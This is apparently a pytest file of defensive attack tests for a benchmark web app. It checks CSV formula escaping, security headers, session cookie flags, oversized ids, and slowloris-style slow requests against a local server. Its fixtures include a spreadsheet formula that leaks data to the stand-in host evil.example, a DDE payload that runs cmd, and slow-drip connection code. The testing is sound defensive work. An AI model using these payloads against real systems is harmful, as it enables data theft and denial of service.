"""Attacks on the web tier, played with only what a participant has: an account made through
the API, its token, the pages and the downloads, over real HTTP to a real uvicorn started
with the options `tomobench serve` uses. Each test fails while its attack works.

- CSV injection: formulas as method and team names must reach `leaderboard.csv` and
  `result.csv` as text, never as formulas.
- Framing, sniffing, script injection, referrer leaks: every answer carries the
  Content-Security-Policy and its companions; the session cookie of a production site is
  `Secure`.
- Ids past the database's integer range must be a 422, never a 500 (SQLite and PostgreSQL).
- Slow clients (slowloris): a connection whose request head or body dribbles in is closed
  after the deadline, not held for as long as the client likes.
"""

from __future__ import annotations

import csv
import io
import re
import secrets
import socket
import time
import uuid
from collections.abc import Iterator, Mapping
from contextlib import ExitStack
from dataclasses import dataclass

import httpx
import pytest

from app.core.config import Settings
from app.server import uvicorn_options
from app.services.csv_export import FORMULA_PREFIXES
from tests.app.support import GOOD_SUBMISSION, install_dataset, running_worker, wait_until
from tests.conftest import backend_settings
from tests.reliability.rawhttp import request
from tests.reliability.servers import WebServer

HEAD_S, BODY_S, KEEP_ALIVE_S = 2.0, 3, 2  # short deadlines, so the test is quick
GRACE_S = 2.0  # scheduling slack on a busy machine
ATTACK_S = 20.0  # how long a test keeps a slow connection going before calling it held
FORMULA_METHOD = '=HYPERLINK("http://evil.example/?leak="&A1,"details")'
FORMULA_TEAM = "@SUM(1+1)*cmd|' /C calc'!A0"
HUGE_IDS = (2**31, 2**63, 2**64)


@dataclass(frozen=True)
class Site:
    settings: Settings
    server: WebServer


def _serve(stack: ExitStack, settings: Settings) -> WebServer:
    """uvicorn with the options of `tomobench serve` (the test can't use serve itself: it
    would seed a demo dataset and start its own worker)."""
    server = WebServer(settings)
    for name, value in uvicorn_options(settings).items():
        server.command += [f"--{name.replace('_', '-')}", str(value)]
    stack.callback(server.stop)
    server.start()
    return server


@pytest.fixture(scope="module")
def production(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """A site configured as production (PostgreSQL, Redis, TOMOBENCH_ENV=production), with
    an active dataset and a worker."""
    with ExitStack() as stack:
        settings = backend_settings(
            stack,
            "production",
            tmp_path_factory.mktemp("attacks-web") / "data",
            env="production",
            secret_key=secrets.token_urlsafe(48),
            http_header_timeout_s=HEAD_S,
            http_body_timeout_s=BODY_S,
            http_keep_alive_s=KEEP_ALIVE_S,
        )
        install_dataset(settings)
        stack.enter_context(running_worker(settings))
        yield Site(settings, _serve(stack, settings))


@pytest.fixture(scope="module")
def embedded(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """The embedded default (SQLite), where ids past 2**63 used to overflow the driver."""
    with ExitStack() as stack:
        settings = backend_settings(stack, "embedded", tmp_path_factory.mktemp("attacks-sq"))
        install_dataset(settings)
        yield Site(settings, _serve(stack, settings))


def _participant(http: httpx.Client) -> tuple[str, str, dict[str, str]]:
    """A new account registered through the API: its name, password and token header."""
    username, password = f"mallory-{uuid.uuid4().hex[:8]}", secrets.token_urlsafe(18) + "aA1!"
    account = {"username": username, "email": f"{username}@example.org", "password": password}
    registered = http.post("/api/v1/users", json=account)
    assert registered.status_code == 201, registered.text
    token = http.post("/api/v1/tokens", auth=(username, password))
    assert token.status_code == 201, token.text
    return username, password, {"Authorization": f"Bearer {token.json()['token']}"}


def _formula_cells(text: str) -> list[str]:
    """The cells of a CSV document that a spreadsheet would run as formulas."""
    found = []
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                try:
                    float(cell)  # a genuine number such as -0.5 is data
                except ValueError:
                    found.append(cell)
    return found


def test_formulas_in_names_reach_the_csv_exports_as_text(production: Site) -> None:
    with httpx.Client(base_url=production.server.url, timeout=30) as http:
        _, _, headers = _participant(http)
        team = http.post("/api/v1/teams", headers=headers, json={"name": FORMULA_TEAM})
        assert team.status_code == 201, team.text
        created = http.post(
            "/api/v1/submissions",
            headers=headers,
            files={"file": ("picks.txt", GOOD_SUBMISSION, "text/plain")},
            data={"method": FORMULA_METHOD, "team": FORMULA_TEAM},
        )
        assert created.status_code == 201, created.text
        submission = f"/api/v1/submissions/{created.json()['id']}"

        def scored() -> bool:
            return bool(http.get(submission, headers=headers).json()["status"] == "scored")

        wait_until(scored, 60, "the submission to be scored")
        board = http.get("/api/v1/leaderboard.csv")  # anyone may download it
        result = http.get(f"{submission}/result.csv", headers=headers)
    for name, download in (("leaderboard.csv", board), ("result.csv", result)):
        assert download.status_code == 200, name
        assert not _formula_cells(download.text), f"{name} holds formulas"
    assert f"'{FORMULA_METHOD}" in next(csv.reader([board.text.splitlines()[1]]))
    assert f"'{FORMULA_TEAM}" in next(csv.reader([board.text.splitlines()[1]]))
    assert ["method", f"'{FORMULA_METHOD}"] in list(csv.reader(io.StringIO(result.text)))


def _assert_hardened(headers: Mapping[str, str], what: str) -> None:
    policy = headers.get("content-security-policy", "")
    assert "frame-ancestors 'none'" in policy, f"{what}: CSP {policy!r}"
    assert "default-src 'self'" in policy or "default-src 'none'" in policy, what
    assert "'unsafe-eval'" not in policy, what
    assert headers.get("x-frame-options") == "DENY", what
    assert headers.get("x-content-type-options") == "nosniff", what
    assert headers.get("referrer-policy") == "strict-origin-when-cross-origin", what


def test_every_answer_forbids_framing_sniffing_and_foreign_scripts(production: Site) -> None:
    with httpx.Client(base_url=production.server.url, timeout=30) as http:
        _, _, headers = _participant(http)
        answers = {
            path: http.get(path, headers=headers if path.startswith("/api/v1/sub") else None)
            for path in (
                "/",
                "/login",
                "/leaderboard",
                "/datasets",
                "/no-such-page",
                "/static/style.css",
                "/docs",
                "/redoc",
                "/api/v1/openapi.json",
                "/api/v1/leaderboard",
                "/api/v1/leaderboard.csv",
                "/api/v1/datasets/999",
                "/api/v1/submissions",
                "/api/v1/submissions/abc",
            )
        }
        answers["401 API"] = http.get("/api/v1/users/me")
    for what, answer in answers.items():
        _assert_hardened(answer.headers, f"{what} ({answer.status_code})")
    too_big = request(
        production.server.port,
        "POST",
        "/api/v1/submissions",
        headers={**headers, "Content-Length": str(10**12)},
    )
    assert too_big.status == 413
    _assert_hardened(too_big.headers, "413 upload")
    site_policy = answers["/"].headers["content-security-policy"]
    assert "script-src 'self';" in site_policy
    assert "style-src 'self';" in site_policy
    # the API docs come from the site itself, not from a CDN a third party controls
    for docs in ("/docs", "/redoc"):
        assert not re.search(r"(src|href)=\"https?://", answers[docs].text), docs
        assert (
            "'unsafe-inline'"
            not in answers[docs]
            .headers["content-security-policy"]
            .split("script-src")[1]
            .split(";")[0]
        ), docs


def test_a_production_session_cookie_is_https_only(production: Site) -> None:
    with httpx.Client(base_url=production.server.url, timeout=30) as http:
        form = http.get("/login")  # the session (and its CSRF token) starts here
    assert form.status_code == 200
    cookies = [c for c in form.headers.get_list("set-cookie") if "tomobench_session=" in c]
    assert cookies, form.headers
    for cookie in cookies:
        attributes = {part.strip().split("=")[0].lower() for part in cookie.split(";")}
        assert {"secure", "httponly"} <= attributes, cookie


@pytest.mark.parametrize("backend", ["embedded", "production"])
def test_ids_past_the_database_range_are_refused_clearly(
    backend: str, request: pytest.FixtureRequest
) -> None:
    site: Site = request.getfixturevalue(backend)
    with httpx.Client(base_url=site.server.url, timeout=30) as http:
        _, _, headers = _participant(http)
        for huge in HUGE_IDS:
            for path, who in (
                (f"/api/v1/datasets/{huge}", None),
                (f"/api/v1/datasets/{huge}/files", None),
                (f"/api/v1/datasets/{huge}/files/model_0/x.mrc", None),
                (f"/api/v1/datasets/{huge}/archives/model_0.tar", None),
                (f"/api/v1/submissions/{huge}", headers),
                (f"/api/v1/submissions/{huge}/result.csv", headers),
                (f"/datasets/{huge}", None),
            ):
                answer = http.get(path, headers=who)
                assert answer.status_code == 422, f"{path}: {answer.status_code}"
                assert "less than or equal to 2147483647" in answer.text, path
            revoked = http.delete(f"/api/v1/tokens/{huge}", headers=headers)
            assert revoked.status_code == 422, revoked.text


def _held_for(port: int, first: bytes, drip: bytes, every: float) -> tuple[float, bytes]:
    """Send `first`, then `drip` every `every` seconds until the server closes the connection
    or `ATTACK_S` pass: how long the connection stayed open, and what the server sent."""
    started = time.monotonic()
    received = b""
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.settimeout(every)
        try:
            connection.sendall(first)
            while time.monotonic() - started < ATTACK_S:
                try:
                    chunk = connection.recv(65536)
                except TimeoutError:
                    if not received and drip:
                        connection.sendall(drip)
                    continue
                if not chunk:
                    break
                received += chunk
        except (BrokenPipeError, ConnectionResetError):
            pass
    return time.monotonic() - started, received


def test_a_slowly_sent_request_head_is_cut_off(production: Site) -> None:
    port = production.server.port
    silent, _ = _held_for(port, b"", b"", 0.5)
    head = b"GET /leaderboard HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: "
    dripping, sent_back = _held_for(port, head, b"a", 0.5)
    assert silent < HEAD_S + GRACE_S, f"an idle connection was held {silent:.1f} s"
    assert dripping < HEAD_S + GRACE_S, f"a dripping head was held {dripping:.1f} s"
    assert sent_back == b""  # no request ever started
    # a finished request leaves the connection open for the keep-alive time only
    request_line = b"GET /api/v1/leaderboard HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
    kept, answer = _held_for(port, request_line, b"", 0.5)
    assert answer.startswith(b"HTTP/1.1 200")
    assert kept < max(KEEP_ALIVE_S, HEAD_S) + GRACE_S, f"kept alive {kept:.1f} s"


def test_a_slowly_sent_body_is_refused_with_408(production: Site) -> None:
    with httpx.Client(base_url=production.server.url, timeout=30) as http:
        _, _, headers = _participant(http)
    head = (
        "POST /api/v1/submissions HTTP/1.1\r\nHost: 127.0.0.1\r\n"
        f"Authorization: {headers['Authorization']}\r\n"
        "Content-Type: multipart/form-data; boundary=b\r\nContent-Length: 100000\r\n\r\n"
        '--b\r\nContent-Disposition: form-data; name="method"\r\n\r\nslow\r\n'
    ).encode()
    held, answer = _held_for(production.server.port, head, b"x", 0.5)
    assert held < BODY_S + GRACE_S, f"a dripping body was held {held:.1f} s"
    assert answer.startswith(b"HTTP/1.1 408"), answer[:200]
    assert b"did not arrive within 3 s" in answer


def test_an_oversized_request_head_is_refused(production: Site) -> None:
    # a head that cannot arrive in one read (the event loop reads 256 KiB at most)
    huge = "x" * (1024 * 1024)
    answer = request(production.server.port, "GET", "/", headers={"X-Huge": huge}, timeout=10)
    assert answer.status == 400
    assert request(production.server.port, "GET", "/api/v1/leaderboard").status == 200
